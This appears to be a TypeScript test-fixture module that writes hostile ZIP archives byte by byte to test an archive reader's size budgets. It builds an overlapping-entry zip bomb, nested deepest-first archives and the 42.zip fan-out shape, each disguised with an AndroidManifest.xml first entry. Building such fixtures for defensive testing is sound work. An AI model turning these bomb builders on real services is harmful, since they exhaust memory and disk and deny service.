/**
 * Builds the hostile archives of the attack campaign (issue 15) byte by byte: a ZIP writer that lets central records
 * point wherever a test says (overlapping entries), the "better zip bomb" construction with quoted local headers
 * (https://www.bamsoftware.com/hacks/zipbomb/), archives nested deepest-first, and the 42.zip shape. jszip cannot
 * write any of these (it always lays entries out one after another).
 */
import { crc32, deflateRawSync } from 'node:zlib';

/** One entry as it is stored: its data (deflate or stored), and what the central directory says of it. */
export interface RawEntry {
  name: string;
  /** 8 deflate, 0 stored. */
  method: 0 | 8;
  /** The bytes after the local header. */
  data: Uint8Array;
  /** Declared size once inflated. */
  size: number;
  crc: number;
}

/** An entry holding `content`, deflated at the best level. */
export function deflated(name: string, content: Uint8Array): RawEntry {
  return { name, method: 8, data: deflateRawSync(content, { level: 9 }), size: content.length, crc: crc32(content) >>> 0 };
}

/** An entry holding `content`, stored. */
export function stored(name: string, content: Uint8Array): RawEntry {
  return { name, method: 0, data: content, size: content.length, crc: crc32(content) >>> 0 };
}

/** A local file header (APPNOTE 4.3.7) for `e`. */
export function localHeader(e: Pick<RawEntry, 'name' | 'method' | 'crc' | 'size'> & { compressed: number }): Buffer {
  const name = Buffer.from(e.name, 'utf8');
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(0x0800, 6);
  h.writeUInt16LE(e.method, 8);
  h.writeUInt32LE(e.crc, 14);
  h.writeUInt32LE(e.compressed, 18);
  h.writeUInt32LE(e.size, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name]);
}

/** A central directory record for `e` whose local header is at `offset`. */
function centralRecord(e: RawEntry & { compressed: number }, offset: number): Buffer {
  const name = Buffer.from(e.name, 'utf8');
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(0x0800, 8);
  h.writeUInt16LE(e.method, 10);
  h.writeUInt32LE(e.crc, 16);
  h.writeUInt32LE(e.compressed, 20);
  h.writeUInt32LE(e.size, 24);
  h.writeUInt16LE(name.length, 28);
  h.writeUInt32LE(offset, 42);
  return Buffer.concat([h, name]);
}

/** The end of central directory record. */
function endRecord(count: number, cdSize: number, cdOffset: number): Buffer {
  const h = Buffer.alloc(22);
  h.writeUInt32LE(0x06054b50, 0);
  h.writeUInt16LE(count, 8);
  h.writeUInt16LE(count, 10);
  h.writeUInt32LE(cdSize, 12);
  h.writeUInt32LE(cdOffset, 16);
  return h;
}

/** A well-formed ZIP of `entries`, one after another. */
export function writeZip(entries: readonly RawEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const e of entries) {
    const local = localHeader({ ...e, compressed: e.data.length });
    central.push(centralRecord({ ...e, compressed: e.data.length }, at));
    parts.push(local, Buffer.from(e.data.buffer, e.data.byteOffset, e.data.byteLength));
    at += local.length + e.data.length;
  }
  const cd = Buffer.concat(central);
  return Buffer.concat([...parts, cd, endRecord(entries.length, cd.length, at)]);
}

/** A deflate stored block (RFC 1951 3.2.4), not final, holding `bytes` (at most 65535). */
function storedBlock(bytes: Uint8Array): Buffer {
  const h = Buffer.alloc(5);
  h[0] = 0; // BFINAL 0, BTYPE 00
  h.writeUInt16LE(bytes.length, 1);
  h.writeUInt16LE(~bytes.length & 0xffff, 3);
  return Buffer.concat([h, bytes]);
}

/**
 * The overlapping-entry bomb with quoted local headers: `count` entries, each one's deflate data a stored block that
 * quotes the next entry's local header, then the next entry's data; the last holds the kernel, `kernelBytes` of
 * zeros. Every entry inflates to more than the kernel, from one shared copy of it. CRCs are left zero: a reader that
 * checks them only warns, and computing them costs count x kernel. The first entry is `first`, to make the archive
 * look like an app (`AndroidManifest.xml`).
 */
export function overlapBomb(count: number, kernelBytes: number, first = 'AndroidManifest.xml'): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(kernelBytes), { level: 9 });
  const names = Array.from({ length: count }, (_, i) => (i === 0 ? first : `assets/bomb${String(i).padStart(6, '0')}.bin`));
  // Built from the last entry back: each entry's data is the quote of the next header followed by the next data.
  const headers: Buffer[] = new Array(count);
  const sizes: number[] = new Array(count);
  const compressed: number[] = new Array(count);
  sizes[count - 1] = kernelBytes;
  compressed[count - 1] = kernel.length;
  headers[count - 1] = localHeader({ name: names[count - 1]!, method: 8, crc: 0, size: kernelBytes, compressed: kernel.length });
  for (let i = count - 2; i >= 0; i--) {
    const next = headers[i + 1]!;
    sizes[i] = next.length + sizes[i + 1]!;
    compressed[i] = 5 + next.length + compressed[i + 1]!;
    headers[i] = localHeader({ name: names[i]!, method: 8, crc: 0, size: sizes[i]!, compressed: compressed[i]! });
  }
  // Layout: header 0, quote of header 1, header 1 (the quoted bytes), quote of header 2, ..., header n-1, kernel.
  const body: Buffer[] = [];
  const offsets: number[] = [];
  let at = 0;
  for (let i = 0; i < count; i++) {
    offsets.push(at);
    body.push(headers[i]!);
    at += headers[i]!.length;
    if (i < count - 1) {
      const quote = storedBlock(headers[i + 1]!).subarray(0, 5);
      body.push(quote);
      at += 5;
    }
  }
  body.push(kernel);
  at += kernel.length;
  const central = Buffer.concat(names.map((name, i) => centralRecord({ name, method: 8, data: new Uint8Array(0), size: sizes[i]!, crc: 0, compressed: compressed[i]! }, offsets[i]!)));
  return Buffer.concat([...body, central, endRecord(count, central.length, at)]);
}

/**
 * Archives nested deepest-first: level 0 (the outer archive) holds `level1.zip` first, then its own payload; each
 * level's payload is `payloadBytes` of zeros; `depth` levels below the outer one. With a budget per archive, every level
 * inflates its payload; with one budget per artifact, all of them together stay within it.
 */
export function nestedDeepestFirst(depth: number, payloadBytes: number, outerFirst = 'AndroidManifest.xml'): Buffer {
  const payload = deflated('payload.bin', Buffer.alloc(payloadBytes));
  let inner: Buffer | undefined;
  for (let level = depth; level >= 1; level--) {
    const entries: RawEntry[] = [];
    if (inner) entries.push(deflated(`level${level + 1}.zip`, inner));
    entries.push({ ...payload, name: `payload${level}.bin` });
    inner = writeZip(entries);
  }
  return writeZip([stored(outerFirst, Buffer.from('not a real manifest: the bomb is what is tested\n')), ...(inner ? [deflated('assets/level1.zip', inner)] : []), { ...payload, name: 'assets/payload0.bin' }]);
}

/**
 * The 42.zip shape: `fanout` copies of an archive at each of `levels` levels, the innermost holding one entry of
 * `leafBytes` zeros. 42.zip itself is fanout 16, 5 levels, 4.3 GB leaves: 4.5 PB in all from 42 KB.
 */
export function fortyTwo(levels: number, fanout: number, leafBytes: number, outerFirst = 'AndroidManifest.xml'): Buffer {
  let inner: Buffer = writeZip([deflated('0.bin', Buffer.alloc(leafBytes))]);
  for (let level = levels - 1; level >= 1; level--) {
    inner = writeZip(Array.from({ length: fanout }, (_, i) => deflated(`${i.toString(16)}.zip`, inner)));
  }
  return writeZip([stored(outerFirst, Buffer.from('not a real manifest: the bomb is what is tested\n')), ...Array.from({ length: fanout }, (_, i) => deflated(`assets/${i.toString(16)}.zip`, inner))]);
}
